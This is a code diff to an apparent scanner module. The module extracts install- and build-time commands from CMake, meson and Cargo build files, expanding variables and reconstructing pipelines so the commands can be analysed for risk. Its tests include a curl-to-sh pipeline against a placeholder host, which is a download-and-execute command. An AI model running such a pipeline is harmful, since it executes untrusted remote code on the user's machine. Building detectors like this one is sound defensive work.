@@ -4,15 +4,20 @@
 //! machine, as `setup.py` runs: the commands they start are install-time code.
 //!
 //! What is read, each bounded ([`MAX_TEXT`] bytes, [`MAX_COMMANDS`] commands):
-//! - CMake: the `COMMAND` argument lists of `execute_process` (runs while CMake configures),
-//!   `add_custom_command` and `add_custom_target` (run while it builds), and `file(DOWNLOAD url
-//!   file)` when a command of the same file uses the downloaded file (CMake's
-//!   "execute_process", "add_custom_command", "file" reference pages);
-//! - meson: the string arguments of `run_command(...)` (runs while meson configures) and the
-//!   `command:` arrays of `custom_target`, `run_target` and `generator` (meson's reference
-//!   manual);
-//! - Cargo: `Command::new(P)` with the string literals of the `.arg(...)` and `.args([...])`
-//!   calls chained to it (`std::process::Command`).
+//! - CMake: the `COMMAND` argument lists of `execute_process` (runs while CMake configures; two
+//!   or more `COMMAND`s are one pipeline, `a | b`), `add_custom_command`, `add_custom_target`
+//!   and the `*_COMMAND`s of `ExternalProject_Add` (run while it builds), and `file(DOWNLOAD url
+//!   file)` when a command of the same file uses the downloaded file; `${NAME}` of variables the
+//!   file sets (`set`, `list(APPEND)`, `string(CONCAT)`) expanded (CMake's reference pages);
+//! - meson: the positional arguments of `run_command(...)` (runs while meson configures) and of
+//!   `meson.add_install_script`, `add_postconf_script` and `add_dist_script`, and the `command:`
+//!   arrays of `custom_target`, `run_target`, `configure_file` and `generator` (with its
+//!   `arguments:`); variables assigned in the file (`name = …`, `name += …`, `'a' + 'b'`,
+//!   `find_program('sh')`) read by their values (meson's reference manual);
+//! - Cargo: `Command::new(P)` (also under a `use … Command as X` name) with the string
+//!   arguments of the `.arg(...)` and `.args([...])` calls chained to it or made later on the
+//!   same binding (`let mut c = Command::new(…); c.arg(…);`), string constants (`let`, `const`,
+//!   `static`) read by their values (`std::process::Command`).
 //!
 //! Each command is written as the Python call that does the same (`subprocess.run([argv])`,
 //! `urllib.request.urlretrieve(url, file)`) at the build file's own line, and the result is
@@ -23,6 +28,8 @@
 //! network client or URL, credential location, decoding or evaluation) is low. Variables
 //! (`${X}`, `@0@`) are left as written.
 //! A `Makefile` is not read: whether anything runs `make` is not in view.
+
+use std::collections::HashMap;
 
 use crate::analyse::Ctx;
 use crate::finding::{Location, Severity};
@@ -329,34 +336,156 @@ const CMAKE_KEYWORDS: &[&str] = &[
     "CODEGEN",
 ];
 
-fn cmake(text: &str) -> Vec<Command> {
+/// Variables a CMake file sets (`set(NAME v…)`, `list(APPEND NAME v…)`, `string(CONCAT NAME
+/// a b…)`), each as its list of values with the variables already known expanded; in the order
+/// of the file, at most [`MAX_VARS`].
+fn cmake_vars(text: &str) -> HashMap<String, Vec<String>> {
+    let mut starts: Vec<(usize, &str)> = ["set", "list", "string"]
+        .iter()
+        .flat_map(|n| calls(text, n).into_iter().map(move |s| (s, *n)))
+        .collect();
+    starts.sort_unstable();
+    let mut vars: HashMap<String, Vec<String>> = HashMap::new();
+    for (start, name) in starts {
+        if vars.len() >= MAX_VARS {
+            break;
+        }
+        let args = cmake_args(text, start);
+        let (var, values): (&str, Vec<String>) = match (name, args.as_slice()) {
+            ("set", [v, rest @ ..]) => {
+                let end = rest
+                    .iter()
+                    .position(|a| a == "CACHE" || a == "PARENT_SCOPE")
+                    .unwrap_or(rest.len());
+                (v, expand(&rest[..end], &vars))
+            }
+            ("list", [op, v, rest @ ..]) if op == "APPEND" => {
+                let mut all = vars.get(v.as_str()).cloned().unwrap_or_default();
+                all.extend(expand(rest, &vars));
+                (v, all)
+            }
+            ("string", [op, v, rest @ ..]) if op == "CONCAT" => {
+                (v, vec![expand(rest, &vars).concat()])
+            }
+            _ => continue,
+        };
+        let mut values = values;
+        values.truncate(MAX_ARGS);
+        vars.insert(var.to_string(), values);
+    }
+    vars
+}
+
+/// Variables kept per build file at most.
+const MAX_VARS: usize = 1024;
+
+/// CMake arguments with `${NAME}` of known variables expanded: an argument that is only the
+/// reference becomes the variable's values, a reference inside text its values joined by `;`.
+fn expand(args: &[String], vars: &HashMap<String, Vec<String>>) -> Vec<String> {
     let mut out = Vec::new();
-    for name in ["execute_process", "add_custom_command", "add_custom_target"] {
+    for a in args {
+        if let Some(v) = a
+            .strip_prefix("${")
+            .and_then(|r| r.strip_suffix('}'))
+            .and_then(|n| vars.get(n))
+        {
+            out.extend(v.iter().cloned());
+            continue;
+        }
+        let mut t = a.clone();
+        for _ in 0..4 {
+            let Some(i) = t.find("${") else { break };
+            let Some(j) = t[i..].find('}').map(|j| i + j) else {
+                break;
+            };
+            match vars.get(&t[i + 2..j]) {
+                Some(v) => t = format!("{}{}{}", &t[..i], v.join(";"), &t[j + 1..]),
+                None => break,
+            }
+        }
+        out.push(t);
+        if out.len() >= MAX_ARGS * 4 {
+            break;
+        }
+    }
+    out
+}
+
+/// One shell word: quoted when it holds white space or shell syntax.
+fn shell_word(a: &str) -> String {
+    if !a.is_empty()
+        && a.chars()
+            .all(|c| c.is_ascii_alphanumeric() || "-_./=:@%+,${}".contains(c))
+    {
+        a.to_string()
+    } else {
+        format!("'{}'", a.replace('\'', "'\\''"))
+    }
+}
+
+/// `ExternalProject_Add` keywords whose value is a command line run while it builds.
+const EXTERNAL_COMMANDS: &[&str] = &[
+    "DOWNLOAD_COMMAND",
+    "UPDATE_COMMAND",
+    "PATCH_COMMAND",
+    "CONFIGURE_COMMAND",
+    "BUILD_COMMAND",
+    "INSTALL_COMMAND",
+    "TEST_COMMAND",
+];
+
+fn cmake(text: &str) -> Vec<Command> {
+    let vars = cmake_vars(text);
+    let mut out = Vec::new();
+    for name in [
+        "execute_process",
+        "add_custom_command",
+        "add_custom_target",
+        "externalproject_add",
+    ] {
         for start in calls(text, name) {
             let line = line_at(text, start);
-            let args = cmake_args(text, start);
+            let args = expand(&cmake_args(text, start), &vars);
+            let mut cmds: Vec<Vec<String>> = Vec::new();
             let mut cur: Option<Vec<String>> = None;
             for a in args {
-                if a == "COMMAND" {
-                    if let Some(c) = cur.take().filter(|c| !c.is_empty()) {
-                        out.push(Command::Argv(line, c));
-                    }
+                if a == "COMMAND" || EXTERNAL_COMMANDS.contains(&a.as_str()) {
+                    cmds.extend(cur.take().filter(|c| !c.is_empty()));
                     cur = Some(Vec::new());
-                } else if CMAKE_KEYWORDS.contains(&a.as_str()) {
-                    if let Some(c) = cur.take().filter(|c| !c.is_empty()) {
-                        out.push(Command::Argv(line, c));
-                    }
+                } else if CMAKE_KEYWORDS.contains(&a.as_str())
+                    || (name == "externalproject_add"
+                        && a.len() > 2
+                        && a.chars().all(|c| c.is_ascii_uppercase() || c == '_'))
+                {
+                    cmds.extend(cur.take().filter(|c| !c.is_empty()));
                 } else if let Some(c) = cur.as_mut().filter(|c| c.len() < MAX_ARGS) {
                     c.push(a);
                 }
             }
-            if let Some(c) = cur.filter(|c| !c.is_empty()) {
-                out.push(Command::Argv(line, c));
+            cmds.extend(cur.filter(|c| !c.is_empty()));
+            if name == "execute_process" && cmds.len() > 1 {
+                // `execute_process` runs its commands as a pipeline, each one's output into
+                // the next's input: `COMMAND curl URL COMMAND sh` is `curl URL | sh`.
+                let pipeline: Vec<String> = cmds
+                    .iter()
+                    .map(|c| {
+                        c.iter()
+                            .map(|a| shell_word(a))
+                            .collect::<Vec<_>>()
+                            .join(" ")
+                    })
+                    .collect();
+                out.push(Command::Argv(
+                    line,
+                    vec!["sh".into(), "-c".into(), pipeline.join(" | ")],
+                ));
+            } else {
+                out.extend(cmds.into_iter().map(|c| Command::Argv(line, c)));
             }
         }
     }
     for start in calls(text, "file") {
-        let args = cmake_args(text, start);
+        let args = expand(&cmake_args(text, start), &vars);
         if let [op, url, file, ..] = args.as_slice() {
             if op == "DOWNLOAD" {
                 out.push(Command::Download(
@@ -393,30 +522,48 @@ fn cmake(text: &str) -> Vec<Command> {
     out
 }
 
-/// meson's string literals (`'…'`, `'''…'''`, `f'…'`) from `start` to the matching `)`, in
-/// order, with the keyword (`command:`) each follows, if any.
-fn meson_strings(text: &str, start: usize) -> Vec<(Option<String>, String)> {
+/// meson's values from `start` to the matching `)` (or, with `line_end`, to the end of the
+/// statement: a newline outside brackets), in order, with the keyword (`command:`) each
+/// follows, if any: string literals (`'…'`, triple-quoted, `f'…'`; pieces joined by `+` are
+/// one string), and variables of `vars` by their values. A function's name is passed over and
+/// its arguments read (`find_program('sh')` is `sh`).
+fn meson_values(
+    text: &str,
+    start: usize,
+    line_end: bool,
+    vars: &HashMap<String, Vec<String>>,
+) -> Vec<(Option<String>, String)> {
     let b = text.as_bytes();
     let mut i = start;
     let mut depth = 0usize;
     let mut key: Option<String> = None;
-    let mut out = Vec::new();
+    let mut out: Vec<(Option<String>, String)> = Vec::new();
+    // Whether the last value is a string a `+` may extend, and whether a `+` was just read.
+    let mut joinable = false;
+    let mut plus = false;
     let end = (start + 64 * 1024).min(b.len());
     while i < end && out.len() < MAX_ARGS * 4 {
         match b[i] {
             b')' if depth == 0 => break,
-            b'(' | b'[' => {
+            b'\n' if depth == 0 && line_end => break,
+            b'(' | b'[' | b'{' => {
                 depth += 1;
+                joinable = false;
                 i += 1;
             }
-            b')' | b']' => {
+            b')' | b']' | b'}' => {
                 depth = depth.saturating_sub(1);
+                joinable = false;
                 i += 1;
             }
             b'#' => {
                 while i < end && b[i] != b'\n' {
                     i += 1;
                 }
+            }
+            b'+' => {
+                plus = joinable;
+                i += 1;
             }
             b'\'' => {
                 let triple = text[i..].starts_with("'''");
@@ -439,7 +586,12 @@ fn meson_strings(text: &str, start: usize) -> Vec<(Option<String>, String)> {
                     s.push(ch);
                     j += ch.len_utf8();
                 }
-                out.push((key.clone(), s));
+                match out.last_mut() {
+                    Some(last) if plus => last.1.push_str(&s),
+                    _ => out.push((key.clone(), s)),
+                }
+                plus = false;
+                joinable = true;
                 i = j + q.len();
             }
             c if c.is_ascii_alphabetic() || c == b'_' => {
@@ -451,6 +603,17 @@ fn meson_strings(text: &str, start: usize) -> Vec<(Option<String>, String)> {
                 let rest = text[i..end].trim_start_matches([' ', '\t']);
                 if depth == 0 && rest.starts_with(':') {
                     key = Some(word.to_string());
+                    joinable = false;
+                } else if rest.starts_with('(') || rest.starts_with('.') {
+                    // A function or method: its arguments are read.
+                    joinable = false;
+                } else if let Some(values) = vars.get(word) {
+                    match (out.last_mut(), values.as_slice()) {
+                        (Some(last), [one]) if plus => last.1.push_str(one),
+                        _ => out.extend(values.iter().map(|v| (key.clone(), v.clone()))),
+                    }
+                    plus = false;
+                    joinable = values.len() == 1;
                 }
             }
             _ => i += 1,
@@ -459,24 +622,83 @@ fn meson_strings(text: &str, start: usize) -> Vec<(Option<String>, String)> {
     out
 }
 
-fn meson(text: &str) -> Vec<Command> {
-    let mut out = Vec::new();
-    for start in calls(text, "run_command") {
-        let argv: Vec<String> = meson_strings(text, start)
+/// Variables a meson file assigns (`name = …`, `name += …` at the start of a line), each as
+/// the values [`meson_values`] reads from its right-hand side; at most [`MAX_VARS`].
+fn meson_vars(text: &str) -> HashMap<String, Vec<String>> {
+    let mut vars: HashMap<String, Vec<String>> = HashMap::new();
+    let mut offset = 0;
+    for line in text.split_inclusive('\n') {
+        let at = offset;
+        offset += line.len();
+        if vars.len() >= MAX_VARS {
+            break;
+        }
+        let t = line.trim_start();
+        let indent = line.len() - t.len();
+        let name_len = t
+            .bytes()
+            .take_while(|c| c.is_ascii_alphanumeric() || *c == b'_')
+            .count();
+        if name_len == 0 || t.as_bytes()[0].is_ascii_digit() {
+            continue;
+        }
+        let rest = t[name_len..].trim_start();
+        let (append, rhs) = if let Some(r) = rest.strip_prefix("+=") {
+            (true, r)
+        } else if let Some(r) = rest.strip_prefix('=').filter(|r| !r.starts_with('=')) {
+            (false, r)
+        } else {
+            continue;
+        };
+        let start = at + indent + (t.len() - rhs.len());
+        let values: Vec<String> = meson_values(text, start, true, &vars)
             .into_iter()
-            .filter(|(k, _)| k.is_none())
-            .map(|(_, s)| s)
+            .map(|(_, v)| v)
             .take(MAX_ARGS)
             .collect();
-        if !argv.is_empty() {
-            out.push(Command::Argv(line_at(text, start), argv));
+        let name = t[..name_len].to_string();
+        if append {
+            vars.entry(name).or_default().extend(values);
+        } else {
+            vars.insert(name, values);
         }
     }
-    for name in ["custom_target", "run_target", "generator"] {
+    vars
+}
+
+fn meson(text: &str) -> Vec<Command> {
+    let vars = meson_vars(text);
+    let mut out = Vec::new();
+    // Positional arguments are the command: `run_command(…)` while meson configures, the
+    // install, postconf and dist scripts when it installs, configures or makes a dist.
+    for name in [
+        "run_command",
+        "add_install_script",
+        "add_postconf_script",
+        "add_dist_script",
+    ] {
         for start in calls(text, name) {
-            let argv: Vec<String> = meson_strings(text, start)
+            let argv: Vec<String> = meson_values(text, start, false, &vars)
                 .into_iter()
-                .filter(|(k, _)| k.as_deref() == Some("command"))
+                .filter(|(k, _)| k.is_none())
+                .map(|(_, s)| s)
+                .take(MAX_ARGS)
+                .collect();
+            if !argv.is_empty() {
+                out.push(Command::Argv(line_at(text, start), argv));
+            }
+        }
+    }
+    // `command:` arrays; a generator's program is positional, its `arguments:` follow.
+    for name in ["custom_target", "run_target", "configure_file", "generator"] {
+        for start in calls(text, name) {
+            let argv: Vec<String> = meson_values(text, start, false, &vars)
+                .into_iter()
+                .filter(|(k, _)| match k.as_deref() {
+                    Some("command") => true,
+                    Some("arguments") | None => name == "generator",
+                    _ => false,
+                })
                 .map(|(_, s)| s)
                 .take(MAX_ARGS)
                 .collect();
@@ -539,63 +761,196 @@ fn rust_string(text: &str, i: usize) -> Option<(String, usize)> {
     Some((s, j + 1))
 }
 
-fn cargo(text: &str) -> Vec<Command> {
-    let mut out = Vec::new();
-    let mut from = 0;
-    while let Some(i) = text[from..].find("Command::new(") {
-        let start = from + i + "Command::new(".len();
-        from = start;
-        let Some((program, mut j)) = rust_string(text, start) else {
-            continue;
-        };
-        let mut argv = vec![program];
-        // The chain up to the end of the statement.
-        let end = text[j..]
-            .find(';')
-            .map_or(text.len(), |k| j + k)
-            .min(j + 16 * 1024);
-        while j < end && argv.len() < MAX_ARGS {
-            let rest = &text[j..end];
-            let Some(k) = rest.find(".arg") else { break };
-            j += k + 4;
-            let is_args = text[j..].starts_with('s');
-            if is_args {
-                j += 1;
+/// String constants of a Rust file: `let NAME = "…";`, `let NAME: &str = "…";`,
+/// `const NAME: &str = "…";`, `static NAME: &str = "…";` (the first binding of a name wins).
+fn rust_vars(text: &str) -> HashMap<String, String> {
+    let mut vars = HashMap::new();
+    for kw in ["let ", "const ", "static "] {
+        let mut from = 0;
+        while let Some(i) = text[from..].find(kw) {
+            let at = from + i + kw.len();
+            from = at;
+            if vars.len() >= MAX_VARS {
+                break;
             }
-            if !text[j..].starts_with('(') {
+            let rest = text[at..].trim_start();
+            let rest = rest.strip_prefix("mut ").unwrap_or(rest).trim_start();
+            let n = rest
+                .bytes()
+                .take_while(|c| c.is_ascii_alphanumeric() || *c == b'_')
+                .count();
+            if n == 0 {
                 continue;
             }
-            // The string literals inside this call's parentheses.
-            let mut depth = 0usize;
-            while j < end {
-                match text.as_bytes()[j] {
-                    b'(' | b'[' => {
-                        depth += 1;
-                        j += 1;
-                    }
-                    b')' | b']' => {
-                        depth -= 1;
-                        j += 1;
-                        if depth == 0 {
-                            break;
-                        }
-                    }
-                    b'"' | b'r' => match rust_string(text, j) {
-                        Some((s, next)) => {
-                            argv.push(s);
-                            j = next;
-                        }
-                        None => j += 1,
-                    },
-                    _ => j += 1,
-                }
+            let name = &rest[..n];
+            let after = &rest[n..];
+            let Some(eq) = after.find('=') else { continue };
+            // Only a type annotation may stand between the name and `=`.
+            if after[..eq].contains([';', '(', '{']) {
+                continue;
+            }
+            let value_at = text.len() - after.len() + eq + 1;
+            let value_at =
+                value_at + (text[value_at..].len() - text[value_at..].trim_start().len());
+            if let Some((s, _)) = rust_string(text, value_at) {
+                vars.entry(name.to_string()).or_insert(s);
             }
         }
-        out.push(Command::Argv(line_at(text, start), argv));
-        if out.len() >= MAX_COMMANDS {
-            break;
+    }
+    vars
+}
+
+/// The string arguments of the call whose `(` is at `j`: literals, and identifiers of `vars`;
+/// returns the offset after its `)`.
+fn rust_call_args(
+    text: &str,
+    mut j: usize,
+    end: usize,
+    vars: &HashMap<String, String>,
+    argv: &mut Vec<String>,
+) -> usize {
+    let b = text.as_bytes();
+    let mut depth = 0usize;
+    while j < end && argv.len() < MAX_ARGS {
+        match b[j] {
+            b'(' | b'[' => {
+                depth += 1;
+                j += 1;
+            }
+            b')' | b']' => {
+                depth = depth.saturating_sub(1);
+                j += 1;
+                if depth == 0 {
+                    break;
+                }
+            }
+            b'"' => match rust_string(text, j) {
+                Some((s, next)) => {
+                    argv.push(s);
+                    j = next;
+                }
+                None => j += 1,
+            },
+            c if c.is_ascii_alphabetic() || c == b'_' => {
+                if let Some((s, next)) = (c == b'r').then(|| rust_string(text, j)).flatten() {
+                    argv.push(s);
+                    j = next;
+                    continue;
+                }
+                let s0 = j;
+                while j < end && (b[j].is_ascii_alphanumeric() || b[j] == b'_') {
+                    j += 1;
+                }
+                if let Some(v) = vars.get(&text[s0..j]) {
+                    argv.push(v.clone());
+                }
+            }
+            _ => j += 1,
         }
     }
+    j
+}
+
+/// The names `std::process::Command` goes by in a Rust file: `Command`, and `X` of
+/// `use std::process::Command as X;`.
+fn command_names(text: &str) -> Vec<String> {
+    let mut names = vec!["Command".to_string()];
+    let mut from = 0;
+    while let Some(i) = text[from..].find("Command as ") {
+        let at = from + i + "Command as ".len();
+        from = at;
+        let n: String = text[at..]
+            .chars()
+            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
+            .collect();
+        if !n.is_empty() && names.len() < 8 {
+            names.push(n);
+        }
+    }
+    names
+}
+
+fn cargo(text: &str) -> Vec<Command> {
+    let vars = rust_vars(text);
+    let mut out = Vec::new();
+    for cmd in command_names(text) {
+        let needle = format!("{cmd}::new(");
+        let mut from = 0;
+        while let Some(i) = text[from..].find(&needle) {
+            let at = from + i;
+            let open = at + needle.len() - 1;
+            from = open + 1;
+            // `MyCommand::new(` is another type.
+            if at > 0 && {
+                let p = text.as_bytes()[at - 1];
+                p.is_ascii_alphanumeric() || p == b'_'
+            } {
+                continue;
+            }
+            let mut argv = Vec::new();
+            let mut j = rust_call_args(text, open, text.len().min(open + 4096), &vars, &mut argv);
+            if argv.is_empty() {
+                continue;
+            }
+            argv.truncate(1);
+            // The chain up to the end of the statement.
+            let end = text[j..]
+                .find(';')
+                .map_or(text.len(), |k| j + k)
+                .min(j + 16 * 1024);
+            while j < end && argv.len() < MAX_ARGS {
+                let Some(k) = text[j..end].find(".arg") else {
+                    break;
+                };
+                j += k + 4;
+                if text[j..].starts_with('s') {
+                    j += 1;
+                }
+                if text[j..].starts_with('(') {
+                    j = rust_call_args(text, j, end, &vars, &mut argv);
+                }
+            }
+            // `let mut c = Command::new(…); c.arg(…); c.args([…]);`: the statements after it
+            // that add to the same binding.
+            // The path before the type (`std::process::`) is passed over.
+            let mut before = text[..at].trim_end();
+            while let Some(p) = before.strip_suffix("::") {
+                before = p.trim_end_matches(|c: char| c.is_ascii_alphanumeric() || c == '_');
+            }
+            let before = before.trim_end();
+            if let Some(binding) = before.strip_suffix('=').map(str::trim_end).and_then(|b| {
+                let n = b
+                    .bytes()
+                    .rev()
+                    .take_while(|c| c.is_ascii_alphanumeric() || *c == b'_')
+                    .count();
+                (n > 0).then(|| &b[b.len() - n..])
+            }) {
+                let stop = (end + 16 * 1024).min(text.len());
+                let mut k = end;
+                let dot = format!("{binding}.arg");
+                while let Some(m) = text[k..stop].find(&dot) {
+                    k += m + dot.len();
+                    if text[k..].starts_with('s') {
+                        k += 1;
+                    }
+                    if text[k..].starts_with('(') {
+                        k = rust_call_args(text, k, stop, &vars, &mut argv);
+                    }
+                    if argv.len() >= MAX_ARGS {
+                        break;
+                    }
+                }
+            }
+            out.push(Command::Argv(line_at(text, open), argv));
+            if out.len() >= MAX_COMMANDS {
+                return out;
+            }
+        }
+    }
+    out.sort_by_key(|c| match c {
+        Command::Argv(l, _) | Command::Download(l, _, _) => *l,
+    });
     out
 }
 
@@ -645,6 +1000,41 @@ mod tests {
         assert_eq!(kind("cmake/Find.cmake"), Some(Kind::Cmake));
         assert_eq!(kind("x/build.rs"), Some(Kind::CargoBuild));
         assert_eq!(kind("Makefile"), None);
+    }
+
+    #[test]
+    fn commands_held_in_variables() {
+        let cmake = "set(_sh sh)\nset(CMD ${_sh} -c)\nlist(APPEND CMD \"echo hi\")\nexecute_process(COMMAND ${CMD})\nexecute_process(COMMAND curl -s https://x.example.invalid/i COMMAND sh)\n";
+        assert_eq!(
+            commands(cmake, Kind::Cmake),
+            vec![
+                Command::Argv(4, vec!["sh".into(), "-c".into(), "echo hi".into()]),
+                Command::Argv(
+                    5,
+                    vec![
+                        "sh".into(),
+                        "-c".into(),
+                        "curl -s https://x.example.invalid/i | sh".into()
+                    ]
+                ),
+            ]
+        );
+        let meson = "sh = find_program('sh')\nc = ['-c']\nc += ['ec' + 'ho hi']\nrun_command(sh, c, check: false)\nmeson.add_install_script('bash', '-c', 'echo x')\n";
+        assert_eq!(
+            commands(meson, Kind::Meson),
+            vec![
+                Command::Argv(4, vec!["sh".into(), "-c".into(), "echo hi".into()]),
+                Command::Argv(5, vec!["bash".into(), "-c".into(), "echo x".into()]),
+            ]
+        );
+        let rust = "use std::process::Command as C;\nconst P: &str = \"echo hi\";\nfn main() {\n    let s = \"sh\";\n    let mut cmd = C::new(s);\n    cmd.arg(\"-c\");\n    cmd.args([P]);\n    cmd.status().unwrap();\n}\n";
+        assert_eq!(
+            commands(rust, Kind::CargoBuild),
+            vec![Command::Argv(
+                5,
+                vec!["sh".into(), "-c".into(), "echo hi".into()]
+            )]
+        );
     }
 
     #[test]
